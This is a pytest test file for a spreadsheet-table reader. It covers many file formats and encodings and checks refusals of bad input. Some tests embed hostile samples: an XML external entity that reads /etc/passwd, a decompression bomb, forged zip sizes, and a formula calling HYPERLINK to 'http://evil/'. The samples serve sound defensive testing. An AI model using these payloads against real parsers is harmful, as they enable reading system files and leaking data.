"""Tables are read whatever program wrote them, or refused in a sentence; nothing that is sent breaks the reader."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest

from common.sheets import reading, tables, workbook_process
from common.sheets.columns import Column, best_table, guess_headings, is_footer
from common.sheets.reading import read_tables
from common.sheets.refusals import SheetRefusal, SheetRefused
from common.sheets.tables import column_letters
from common.sheets.values import as_text
from tests.common.sheets import books, other_books

COLUMNS = [
    Column("name", "单位名称", ("单位名称", "名称"), as_text(120)),
    Column("address", "地址", ("地址",), as_text(200)),
    Column("category", "类别", ("类别",), as_text(60)),
]
CSV = "序号,单位名称,地址,类别\r\n1,秀洲酒店,中山路1号,宾馆\r\n"


def listed(data: bytes) -> list[dict]:
    """What the sheet says, a dictionary a line, as the first steps of an import read it."""
    found = read_tables(data)
    table = found[best_table(found, COLUMNS)]
    headings = guess_headings(table, COLUMNS)
    below = table.rows[(headings.header_row or 0) + 1 :]
    return [{key: cell for key, cell in zip(headings.keys, row, strict=False) if key} for row in below]


def refusal(data: bytes) -> SheetRefusal:
    with pytest.raises(SheetRefused) as caught:
        read_tables(data)
    assert caught.value.sentence
    return caught.value.reason


@pytest.mark.parametrize(
    "data",
    [
        books.book(),
        books.by_wps(books.book()),
        books.book(change=books.chart_first),
        books.book(change=books.empty_first),
        books.book(change=books.title_above),
        books.book([["序 号", "单 位\n名 称", "地　址", "类别（必填）"], books.LIST[1]]),
        CSV.replace("\r\n", "\r").encode("gb18030"),
        CSV.encode("utf-8-sig"),
        CSV.encode("gbk"),
        CSV.replace(",", "\t").encode("utf-16"),
        b"\xfe\xff" + CSV.encode("utf-16-be"),
        CSV.encode("utf-16-le"),
        CSV.replace(",", ";").encode(),
        ("sep=,\r\n" + CSV).encode("gbk"),
        ("sep=|\r\n" + CSV.replace(",", "|")).encode(),
        (
            "<html><meta charset=gb2312><table><tr><th>序号<th>单位名称<th>地址<th>类别</tr>"
            "<tr><td>1<td>秀洲酒店</td><td>中山路1号<td>宾馆</table>"
        ).encode("gbk"),
    ],
)
def test_a_list_is_read_in_every_dress(data):
    (line,) = listed(data)
    assert (line["name"], line["category"]) == ("秀洲酒店", "宾馆")


def test_a_broken_cell_is_one_bad_place_and_the_rest_stands():
    data = books.with_broken_number(books.book())
    assert [line["name"] for line in listed(data)] == ["秀洲酒店"]
    (table,) = read_tables(data)
    assert table.bad == [(1, 0)]


def test_what_is_merged_downwards_stands_beside_each_of_its_lines():
    rows = [*books.LIST, [2, "湖滨酒店", "b", None], [3, "影院", "c", "影院"]]
    data = books.book(rows, change=lambda made: made.active.merge_cells("D2:D3"))
    assert [line["category"] for line in listed(data)] == ["宾馆", "宾馆", "影院"]


def test_a_heading_of_two_lines_is_read_by_its_lower_one():
    rows = [["单位名称", "所在", None], [None, "地址", "类别"], ["秀洲酒店", "a", "宾馆"]]
    data = books.book(rows, change=lambda made: (made.active.merge_cells("A1:A2"), made.active.merge_cells("B1:C1")))
    assert listed(data) == [{"name": "秀洲酒店", "address": "a", "category": "宾馆"}]


def test_days_and_whole_numbers_are_plain_and_lines_counted_as_programs_do():
    from datetime import date, datetime

    rows = [[], [], ["单位名称", "地址"], ["甲", date(2026, 3, 1)], [datetime(2026, 3, 1, 8, 30), 5.0]]
    (table,) = read_tables(books.book(rows))
    assert table.rows[-2:] == [["甲", "2026-03-01"], ["2026-03-01 08:30:00", 5]]
    assert table.line_of(len(table.rows) - 1) == 5


def test_a_web_page_repeats_what_reaches_down():
    page = "<table><tr><th>单位名称<th>类别<tr><td>甲<td rowspan=2>宾馆<tr><td>乙</table>"
    assert [line["category"] for line in listed(page.encode())] == ["宾馆", "宾馆"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", SheetRefusal.EMPTY),
        (b" \r\n", SheetRefusal.EMPTY),
        (books.book([]), SheetRefusal.EMPTY),
        (books.cut(books.book()), SheetRefusal.DAMAGED),
        (books.book()[:-40], SheetRefusal.DAMAGED),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), SheetRefusal.DAMAGED),
        (b"%PDF-1.7 ...", SheetRefusal.OTHER),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), SheetRefusal.OTHER),
        (b"<html><body>\xe8\xaf\xb7\xe7\x99\xbb\xe5\xbd\x95</body></html>", SheetRefusal.PAGE),
        (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", SheetRefusal.PAGE),
        (b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', SheetRefusal.XML),
        (b"\xff\xfe\x00\x01\x81", SheetRefusal.ENCODING),
        (bytes(range(128, 256)) * 3, SheetRefusal.ENCODING),
        ('单位名称,地址\n甲,"中山路\n' + "乙,b\n" * 60, SheetRefusal.QUOTE),
        (b"a" * (tables.MOST_BYTES + 1), SheetRefusal.LARGE),
        ("单位名称\n" + "甲\n" * (tables.MOST_ROWS + 1), SheetRefusal.ROWS),
        ("," * tables.MOST_COLUMNS + "甲\n", SheetRefusal.COLUMNS),
    ],
)
def test_what_is_no_table_is_refused_in_a_sentence(data, reason):
    assert refusal(data.encode() if isinstance(data, str) else data) == reason


def test_a_table_may_be_as_long_and_wide_as_said():
    assert len(read_tables(("单位名称\n" + "甲\n" * tables.MOST_ROWS).encode())[0].rows) == tables.MOST_ROWS + 1
    assert len(read_tables(("," * (tables.MOST_COLUMNS - 1) + "甲\n").encode())[0].rows[0]) == tables.MOST_COLUMNS


@pytest.mark.parametrize("quoted", ['"中山路"1号"', '"中山路 ""1"" 号"'])
def test_quotation_marks_within_a_cell_are_a_cell(quoted):
    data = f"单位名称,地址,类别\n秀洲酒店,{quoted},宾馆\n乙,b,影院\n"
    assert [line["category"] for line in listed(data.encode())] == ["宾馆", "影院"]


# -- what is sent to break the reader ----------------------------------------------------------------------------------


def test_an_archive_that_grows_too_large_is_refused(monkeypatch):
    data = books.with_part(books.book(), lambda xml: xml + b" " * (workbook_process.MOST_UNPACKED + 1))
    assert len(data) < 1024**2
    assert refusal(data) == SheetRefusal.UNPACKED


def test_the_sizes_an_archive_states_are_not_believed():
    data = bytearray(books.with_part(books.book(), lambda xml: xml + b" " * (workbook_process.MOST_UNPACKED + 1)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        size = archive.getinfo(books.SHEET).file_size
    assert data.count(struct.pack("<I", size)) >= 2
    lie = bytes(data).replace(struct.pack("<I", size), struct.pack("<I", 1000))
    assert refusal(lie) == SheetRefusal.DAMAGED


def test_a_cell_of_a_million_lines_away_costs_no_memory():
    far = books.book(change=lambda made: made.active.cell(1_048_576, 16_384, "远"))
    assert refusal(far) in (SheetRefusal.UNPACKED, SheetRefusal.DAMAGED, SheetRefusal.ROWS, SheetRefusal.COLUMNS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_sheet_that_refers_to_files_is_refused_and_nothing_is_read(encoding):
    def refer(xml: bytes) -> bytes:
        head = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        return f'<?xml version="1.0" encoding="{encoding}"?>{head}{xml.decode()}'.encode(encoding)

    assert refusal(books.with_part(books.book(), refer)) == SheetRefusal.ENTITIES
    assert listed(books.with_part(books.book(), lambda xml: xml))  # the same way without them is read


def test_a_formula_is_its_last_value_and_never_run():
    data = books.book([["单位名称", "地址"], ["甲", '=HYPERLINK("http://evil/"&A2)']])
    (table,) = read_tables(data)
    assert table.rows[1][0] == "甲"
    assert "HYPERLINK" not in str(table.rows)


def test_a_reader_that_breaks_down_is_a_sentence(monkeypatch, tmp_path):
    broken = tmp_path / "broken.py"
    broken.write_text("import os; os.abort()")
    monkeypatch.setattr(reading, "PROCESS", broken)
    assert refusal(books.book()) == SheetRefusal.UNPACKED
    broken.write_text("raise SystemExit(3)")
    assert refusal(books.book()) == SheetRefusal.DAMAGED


def test_every_refusal_of_the_process_is_a_sentence():
    text = Path(workbook_process.__file__).read_text()
    named = {part.split('"')[1] for part in text.split("WorkbookError(")[1:] if part.startswith('"')}
    assert named
    assert named <= set(SheetRefusal.__members__)


@pytest.mark.parametrize(("index", "letters"), [(0, "A"), (25, "Z"), (26, "AA"), (51, "AZ"), (52, "BA"), (701, "ZZ")])
def test_columns_are_called_as_programs_call_them(index, letters):
    assert column_letters(index) == letters


@pytest.mark.parametrize(
    ("first", "is_one"), [("合计", True), ("填表人：张三", True), ("合 计", True), ("张三", False)]
)
def test_a_line_that_sums_up_or_signs_is_no_entry(first, is_one):
    assert is_footer([None, first, 3]) is is_one


# -- other programs' spreadsheets --------------------------------------------------------------------------------------

OTHERS = [
    ["序号", "单位名称", "地址", "类别"],
    [1.0, "秀洲酒店", "中山路 1 号", "宾馆"],
    [2.0, "𠮷祥影院", "环城路 2 号", "影院"],
]


@pytest.mark.parametrize("write", [other_books.ods, other_books.xls])
def test_a_spreadsheet_of_another_program_is_read_right(write):
    (table,) = read_tables(write(OTHERS))
    assert (table.name, table.rows[1:]) == ("名单", [[1, *OTHERS[1][1:]], [2, *OTHERS[2][1:]]])
    assert [line["name"] for line in listed(write(OTHERS))] == ["秀洲酒店", "𠮷祥影院"]


def test_an_ods_that_grows_too_large_is_refused_and_read_with_the_limit_off(monkeypatch):
    more = b" " * (workbook_process.MOST_UNPACKED // 16)
    data = other_books.ods(OTHERS, more=more)
    assert len(data) < 1024**2
    assert len(workbook_process.repacked(data)) > len(more)  # the control: below the limit it is read on
    monkeypatch.setattr(workbook_process, "MOST_UNPACKED", len(more))
    with pytest.raises(workbook_process.WorkbookError, match="UNPACKED"):
        workbook_process.repacked(data)


@pytest.mark.parametrize(
    ("name", "reason"),
    [("MOST_BYTES", SheetRefusal.LARGE), ("MOST_ROWS", SheetRefusal.ROWS), ("MOST_COLUMNS", SheetRefusal.COLUMNS)],
)
def test_a_table_over_a_size_is_refused_and_read_with_the_limit_off(monkeypatch, name, reason):
    data = CSV.encode() * 2
    assert read_tables(data)  # the control
    monkeypatch.setattr(reading, name, 1)
    assert refusal(data) == reason
